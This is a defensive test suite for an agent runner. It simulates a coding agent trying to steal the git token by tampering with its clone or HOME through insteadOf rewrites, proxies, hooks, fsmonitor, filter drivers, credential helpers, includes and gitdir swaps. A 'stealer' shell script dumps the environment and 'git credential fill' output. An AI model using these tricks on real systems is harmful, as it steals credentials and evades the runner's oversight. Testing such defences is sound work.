/**
 * An agent that tries to get the git token: each test is one `command` agent doing one trick in
 * its clone or its HOME (a rewritten remote, url.*.insteadOf, a proxy, hooks, fsmonitor, filters,
 * a credential helper of its own, includes, a user configuration, a replaced git directory) aimed
 * at a capturing server on loopback or at a program that writes down what it gets. The runner
 * must push the work to the session's own repository all the same, with nothing reaching the
 * capturing server, no program of the agent's run, the token nowhere on disk, and the result
 * saying what the agent had altered.
 */
import assert from 'node:assert/strict';
import {
  chmodSync,
  existsSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  rmSync,
  statSync,
  writeFileSync,
} from 'node:fs';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { execa } from 'execa';
import { type CaptureServer, startCaptureServer } from './support/capture-server.js';
import { type GitHttpServer, startGitHttpServer } from './support/git-http-server.js';
import { GitSandbox, repo, type RunnerRun } from './support/git-sandbox.js';
import { buildCloneScript } from '../../src/runner-contract/clone-script.js';
import { shellQuote } from '../../src/runner-contract/shell.js';
import { testGitEnv } from '../support/git.js';

const TOKEN = 'ghp_tamperTestToken_0123456789abcdef';
const BASIC = Buffer.from(`x-access-token:${TOKEN}`).toString('base64');
const BRANCH = 'shepherd/fix-readme';

const sandbox = new GitSandbox();
const loot = join(sandbox.root, 'loot');
const bin = join(sandbox.root, 'bin');
let server: GitHttpServer;
let capture: CaptureServer;
let serverBase = '';

before(async () => {
  mkdirSync(loot);
  mkdirSync(bin);
  server = await startGitHttpServer(sandbox.root, TOKEN);
  capture = await startCaptureServer();
  serverBase = server.url('');
});
after(async () => {
  await server.close();
  await capture.close();
  sandbox.remove();
});

/**
 * An attacker's program: writes its environment, and whatever git's credential machinery hands
 * it for the real server, to the loot directory; then passes its input through (as a filter must).
 */
function stealer(label: string): string {
  const path = join(bin, label);
  const host = new URL(serverBase).host;
  writeFileSync(
    path,
    `#!/bin/sh
out=${shellQuote(loot)}/${label}-$$
env > "$out"
printf 'protocol=http\\nhost=${host}\\n\\n' | GIT_TERMINAL_PROMPT=0 git credential fill >> "$out" 2>&1
${label.startsWith('ssh') ? 'exit 1' : 'cat'}
`,
  );
  chmodSync(path, 0o755);
  return path;
}

/** Every file under `dir` whose bytes contain the token or its Basic-auth form. */
function filesWithToken(dir: string): string[] {
  return readdirSync(dir, { recursive: true, encoding: 'utf8' }).filter((name) => {
    const path = join(dir, name);
    if (!statSync(path).isFile()) return false;
    const content = readFileSync(path, 'latin1');
    return content.includes(TOKEN) || content.includes(BASIC);
  });
}

/** Each test judges its own run only. */
function forgetEarlierTests(): void {
  capture.clear();
  rmSync(loot, { recursive: true, force: true });
  mkdirSync(loot);
}

interface Outcome {
  run: RunnerRun;
  bare: string;
}

/** A private repository cloned with the token, and the runner with `script` as the agent. */
async function runTrick(name: string, script: string, beforeRun?: (clone: string) => void): Promise<Outcome> {
  sandbox.bareRepo(name);
  const url = server.url(`${name}.git`);
  const spec = repo(url, { credentialsSecretRef: { name: 'git', key: 'token' } });
  const { workspace, runnerRepos } = await sandbox.workspace([spec], { SHEPHERD_GIT_TOKEN_0: TOKEN });
  beforeRun?.(join(workspace, 'repo'));
  forgetEarlierTests();
  const env = sandbox.runnerEnv(workspace, runnerRepos, {
    SHEPHERD_AGENT: 'command',
    SHEPHERD_COMMAND: JSON.stringify(['sh', '-c', `set -e; echo work > WORK.md; ${script}`]),
    SHEPHERD_GIT_TOKEN_0: TOKEN,
  });
  // As in a pod: nothing tells git to skip the user's configuration in HOME but the runner itself.
  delete env.GIT_CONFIG_GLOBAL;
  return { run: await sandbox.runRunner(env), bare: join(sandbox.root, `${name}.git`) };
}

/** Nothing of the token went anywhere but the session's own server. */
function assertNothingLeaked({ run }: Pick<Outcome, 'run'>): void {
  assert.deepEqual(
    capture.requests.map((request) => `${request.method} ${request.target}`),
    [],
    'the capturing server was never contacted',
  );
  assert.deepEqual(readdirSync(loot), [], 'no program of the agent’s ran');
  assert.deepEqual(filesWithToken(sandbox.root), [], 'the token is in no file');
  for (const text of [run.resultText, run.stdout, run.stderr]) assert.ok(!text.includes(TOKEN));
}

/** The work is on the session's repository and the result names what the agent altered. */
function assertPushedDespite({ run, bare }: Outcome, altered: RegExp): void {
  assert.equal(run.exitCode, 0, run.stderr);
  const [report] = run.result?.repos as { status: string; commit: string; message?: string }[];
  assert.equal(report?.status, 'Pushed', report?.message);
  assert.equal(report?.commit, sandbox.remoteHead(bare, BRANCH));
  assert.equal(sandbox.remoteFile(bare, BRANCH, 'WORK.md'), 'work');
  assert.match(report?.message ?? '', /the agent had altered the clone's git setup/);
  assert.match(report?.message ?? '', altered);
  assert.match(String(run.result?.summary), altered, 'the summary says so too');
  assert.ok((run.result?.warnings as string[]).some((line) => altered.test(line)));
}

describe('an agent trying to get the git token', () => {
  it('control: an agent that leaves git alone gets its work pushed with no warning', async () => {
    const outcome = await runTrick('clean', 'true');
    assert.equal(outcome.run.exitCode, 0, outcome.run.stderr);
    const [report] = outcome.run.result?.repos as { status: string; message?: string }[];
    assert.deepEqual([report?.status, report?.message], ['Pushed', undefined]);
    assert.equal(outcome.run.result?.warnings, undefined);
    assertNothingLeaked(outcome);
  });

  const tricks: [what: string, script: () => string, altered: RegExp][] = [
    [
      'url.<capture>.insteadOf the server in .git/config',
      () => `git config url.${capture.url}/.insteadOf ${serverBase}`,
      /url\.http:\/\/127\.0\.0\.1:\d+\/\.insteadof \(removed\)/,
    ],
    [
      'url.<capture>.pushInsteadOf the server',
      () => `git config url.${capture.url}/.pushInsteadOf ${serverBase}`,
      /\.pushinsteadof \(removed\)/,
    ],
    [
      'origin set to the capturing server',
      () => `git remote set-url origin ${capture.url}/stolen.git`,
      /remote\.origin\.url \(reset\)/,
    ],
    [
      'a push URL for origin',
      () => `git remote set-url --push origin ${capture.url}/stolen.git`,
      /remote\.origin\.pushurl \(removed\)/,
    ],
    [
      'http.proxy through the capturing server',
      () => `git config http.proxy ${capture.url}`,
      /http\.proxy \(removed\)/,
    ],
    [
      'hooks that write down what they get',
      () =>
        ['pre-push', 'reference-transaction', 'pre-commit', 'post-commit', 'post-checkout']
          .map((hook) => `cp ${stealer(`hook-${hook}`)} .git/hooks/${hook}`)
          .join('; '),
      /hooks\/pre-push \(not run\)/,
    ],
    [
      'core.hooksPath to a directory of its own',
      () =>
        `mkdir -p ../myhooks; for hook in pre-push reference-transaction post-commit; do cp ${stealer('hookspath')} ../myhooks/$hook; done; git config core.hooksPath "$PWD/../myhooks"`,
      /core\.hookspath \(removed\)/,
    ],
    [
      'a core.fsmonitor program',
      () => `git config core.fsmonitor ${stealer('fsmonitor')}`,
      /core\.fsmonitor \(removed\)/,
    ],
    [
      'a clean/smudge filter driver for every file',
      () =>
        `echo '* filter=evil' > .gitattributes; git config filter.evil.clean ${stealer('clean')}; git config filter.evil.smudge ${stealer('smudge')}`,
      /filter\.evil\.clean \(removed\)/,
    ],
    [
      'a credential helper of its own in .git/config',
      () => `git config credential.helper '!${stealer('helper')}'`,
      /credential\.helper \(removed\)/,
    ],
    [
      'an ssh remote with a core.sshCommand of its own',
      () =>
        `git config core.sshCommand ${stealer('ssh')}; git remote set-url origin ssh://git@127.0.0.1/stolen.git`,
      /core\.sshcommand \(removed\)/,
    ],
    [
      'include.path to a file rewriting the URL and adding a helper',
      () =>
        `printf '[url "%s/"]\\n\\tinsteadOf = %s\\n[credential]\\n\\thelper = !%s\\n' ${capture.url} ${serverBase} ${stealer('include')} > ../evil.inc; git config include.path "$PWD/../evil.inc"`,
      /include\.path \(removed\)/,
    ],
    [
      '.git/config replaced by a symlink to a file of its own',
      () =>
        `cp .git/config ../evil-config; printf '[url "%s/"]\\n\\tinsteadOf = %s\\n' ${capture.url} ${serverBase} >> ../evil-config; ln -sf "$PWD/../evil-config" .git/config`,
      /\.insteadof \(removed\)/,
    ],
    [
      'extensions.worktreeConfig with a config.worktree',
      () =>
        `git config extensions.worktreeConfig true; printf '[url "%s/"]\\n\\tinsteadOf = %s\\n' ${capture.url} ${serverBase} > .git/config.worktree`,
      /extensions\.worktreeconfig \(removed\)/,
    ],
  ];
  for (const [index, [what, script, altered]] of tricks.entries()) {
    it(`${what}: the work is pushed to the session's repository, the trick is reported, nothing leaks`, async () => {
      const outcome = await runTrick(`trick-${index}`, script());
      assertNothingLeaked(outcome);
      assertPushedDespite(outcome, altered);
    });
  }

  for (const [name, what, script, warning] of [
    [
      'user-gitconfig',
      '~/.gitconfig with insteadOf and a credential helper',
      () =>
        `git config --global url.${capture.url}/.insteadOf ${serverBase}; git config --global credential.helper '!${stealer('global')}'`,
      /~\/\.gitconfig .* was ignored/,
    ],
    [
      'user-xdg',
      '$XDG_CONFIG_HOME/git/config with insteadOf',
      () =>
        `mkdir -p "$HOME/.config/git"; printf '[url "%s/"]\\n\\tinsteadOf = %s\\n' ${capture.url} ${serverBase} > "$HOME/.config/git/config"`,
      /XDG_CONFIG_HOME\/git\/config .* was ignored/,
    ],
  ] as const) {
    it(`${what}: ignored, reported, nothing leaks`, async () => {
      const outcome = await runTrick(name, script());
      assertNothingLeaked(outcome);
      assert.equal(outcome.run.exitCode, 0, outcome.run.stderr);
      const [report] = outcome.run.result?.repos as { status: string }[];
      assert.equal(report?.status, 'Pushed');
      assert.equal(sandbox.remoteFile(outcome.bare, BRANCH, 'WORK.md'), 'work');
      assert.ok((outcome.run.result?.warnings as string[]).some((line) => warning.test(line)));
      assert.match(String(outcome.run.result?.summary), warning);
    });
  }

  it('the clone step ignores a ~/.gitconfig an earlier agent left in HOME on the workspace', async () => {
    sandbox.bareRepo('clone-home');
    const url = server.url('clone-home.git');
    const workspace = join(sandbox.root, 'clone-home-workspace');
    const home = join(workspace, '.home');
    mkdirSync(home, { recursive: true });
    writeFileSync(
      join(home, '.gitconfig'),
      `[url "${capture.url}/"]\n\tinsteadOf = ${serverBase}\n[credential]\n\thelper = !${stealer('clone-helper')}\n`,
    );
    forgetEarlierTests();
    const { GIT_CONFIG_GLOBAL: _global, ...env } = testGitEnv;
    const clone = await execa(
      'sh',
      [
        '-c',
        buildCloneScript([repo(url, { credentialsSecretRef: { name: 'git', key: 'token' } })], workspace),
      ],
      { env: { ...env, HOME: home, SHEPHERD_GIT_TOKEN_0: TOKEN }, extendEnv: false, reject: false },
    );
    assert.equal(clone.exitCode, 0, String(clone.stderr));
    assert.ok(existsSync(join(workspace, 'repo', 'README.md')), 'cloned from the session’s server');
    assertNothingLeaked({
      run: {
        exitCode: clone.exitCode,
        stdout: String(clone.stdout),
        stderr: String(clone.stderr),
        result: undefined,
        resultText: '',
        durationMs: 0,
      },
    });
  });

  it('a clone tampered with by an earlier attempt is taken back before the runner fetches with the token', async () => {
    const outcome = await runTrick('earlier', 'true', (clone) => {
      sandbox.git(clone, 'config', `url.${capture.url}/.insteadOf`, serverBase);
      sandbox.git(clone, 'config', 'core.fsmonitor', stealer('earlier-fsmonitor'));
    });
    assertNothingLeaked(outcome);
    assertPushedDespite(outcome, /core\.fsmonitor \(removed\)/);
  });

  for (const [name, what, script] of [
    [
      'gitdir-file',
      '.git replaced by a gitdir file pointing at a repository of its own',
      () =>
        `mv .git ../elsewhere.git; echo "gitdir: $PWD/../elsewhere.git" > .git; git config url.${capture.url}/.insteadOf ${serverBase}`,
    ],
    [
      'gitdir-commondir',
      'a commondir borrowing the configuration of a repository of its own',
      () =>
        `git init --quiet --bare ../borrowed.git; for part in objects refs; do cp -R .git/$part/. ../borrowed.git/$part/; done; if [ -f .git/packed-refs ]; then cp .git/packed-refs ../borrowed.git/; fi; cp .git/config ../borrowed.git/config; git config --file ../borrowed.git/config url.${capture.url}/.insteadOf ${serverBase}; echo "$PWD/../borrowed.git" > .git/commondir`,
    ],
  ] as const) {
    it(`${what}: the clone is not used, the repository is reported Failed, nothing leaks`, async () => {
      const outcome = await runTrick(name, script());
      assertNothingLeaked(outcome);
      assert.equal(outcome.run.exitCode, 1);
      const [report] = outcome.run.result?.repos as { status: string; message?: string }[];
      assert.equal(report?.status, 'Failed');
      assert.match(report?.message ?? '', /is no longer the clone's own git directory/);
      assert.equal(sandbox.remoteHead(outcome.bare, BRANCH), undefined, 'nothing was pushed');
    });
  }
});
